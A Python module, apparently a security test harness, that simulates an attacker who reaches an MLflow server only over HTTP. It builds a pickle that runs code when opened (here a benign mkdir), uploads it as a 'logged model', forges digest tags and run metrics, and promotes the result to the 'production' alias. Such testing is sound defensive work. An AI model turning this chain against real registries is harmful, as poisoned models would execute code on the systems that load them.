"""The reach of somebody who has the HTTP port of MLflow and nothing else."""

import json
import os
import pickle
from pathlib import Path
from typing import Any

import httpx

from contract.digests import sha256

API = "/api/2.0/mlflow"
ARTIFACTS = "/api/2.0/mlflow-artifacts/artifacts"


class Code:
    """A pickle that makes a folder when it is opened."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self._marker),)


def code(marker: Path) -> bytes:
    """Return a pickle that makes the folder `marker` when it is opened."""
    return pickle.dumps(Code(marker))


class Attacker:
    """A client of MLflow's HTTP API, without any other access."""

    def __init__(self, url: str) -> None:
        self._http = httpx.Client(base_url=url, timeout=60)

    def send(self, method: str, path: str, **body: Any) -> Any:
        """Send a request, and return the answer."""
        if method == "GET":
            return self._http.get(f"{API}/{path}", params=body).raise_for_status().json()
        return self._http.request(method, f"{API}/{path}", json=body).raise_for_status().json()

    def logged_model(self, experiment_id: str, files: dict[str, bytes], tags: dict[str, str]) -> str:
        """Upload files through the artifact proxy as a logged model, and return its id."""
        made = self.send("POST", "logged-models", experiment_id=experiment_id, name="innocent")["model"]["info"]
        place = made["artifact_uri"].partition(":/")[2].lstrip("/")
        for name, content in files.items():
            self._http.put(f"{ARTIFACTS}/{place}/{name}", content=content).raise_for_status()
        model_id = str(made["model_id"])
        self.send("PATCH", f"logged-models/{model_id}", model_id=model_id, status="LOGGED_MODEL_READY")
        recorded = {"digests": json.dumps({name: sha256(content) for name, content in files.items()})}
        pairs = _pairs(recorded | tags)
        self.send("PATCH", f"logged-models/{model_id}/tags", model_id=model_id, tags=pairs)
        return model_id

    def version(self, name: str, model_id: str, tags: dict[str, str], run_id: str = "") -> str:
        """Make a version of a logged model, with any tags, and return its number."""
        model = {"name": name, "source": f"models:/{model_id}", "model_id": model_id, "run_id": run_id}
        made = self.send("POST", "model-versions/create", **model, tags=_pairs(tags))
        return str(made["model_version"]["version"])

    def run(self, experiment_id: str, tags: dict[str, str], metrics: dict[str, float], model_id: str) -> str:
        """Make a finished run with any tags and metrics, whose output is that model, and return its id."""
        made = self.send("POST", "runs/create", experiment_id=experiment_id, run_name="the best", tags=_pairs(tags))
        run_id = str(made["run"]["info"]["run_id"])
        values = [{"key": key, "value": value, "timestamp": 0, "step": 0} for key, value in metrics.items()]
        self.send("POST", "runs/log-batch", run_id=run_id, metrics=values)
        self.send("POST", "runs/outputs", run_id=run_id, models=[{"model_id": model_id, "step": 0}])
        self.send("POST", "runs/update", run_id=run_id, status="FINISHED")
        return run_id

    def promote(self, name: str, version: str) -> None:
        """Set the alias production."""
        self.send("POST", "registered-models/alias", name=name, alias="production", version=version)


def _pairs(tags: dict[str, str]) -> list[dict[str, str]]:
    return [{"key": key, "value": value} for key, value in tags.items()]
